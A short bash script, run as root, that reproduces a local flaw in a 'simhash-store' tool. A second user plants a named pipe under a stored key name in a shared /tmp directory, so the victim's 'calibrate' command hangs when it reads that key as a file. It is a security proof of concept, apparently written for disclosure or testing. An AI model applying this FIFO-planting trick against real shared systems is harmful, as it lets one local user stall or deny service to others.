#!/bin/bash
# The victim (h15alice) stores files by relative keys, then runs `simhash-store calibrate` (which
# reads the stored keys as files of the working directory) from a shared directory (/tmp/h15w,
# sticky, as /tmp). Another local user (h15mallory) put a FIFO there under one of the key names
# before the victim's files were copied in. Run as root.
set -u
W=/tmp/h15w
mkdir -m 1777 $W
su h15mallory -c "mkfifo -m 644 $W/doc3.txt"
su - h15alice -c "cd $W && for i in 1 2 3 4 5 6; do python3 -c \"import random; random.seed(\$i); print(' '.join(random.choice(['alpha','beta','gamma','delta','omega','sigma','kappa','theta']) + str(random.randint(0,50)) for _ in range(300)))\" > doc\$i.txt 2>/dev/null; done; ls -l $W; ~/venv/bin/simhash-store add doc1.txt doc2.txt doc4.txt doc5.txt doc6.txt > /dev/null; ~/venv/bin/simhash-store add --key-field key --text-field text --format jsonl - <<< '{\"key\": \"doc3.txt\", \"text\": \"some words of a third document for the store\"}' > /dev/null; timeout 30 ~/venv/bin/simhash-store calibrate --sample 6; echo exit \$?"
rm -f $W/doc1.txt $W/doc2.txt $W/doc3.txt $W/doc4.txt $W/doc5.txt $W/doc6.txt; rmdir $W
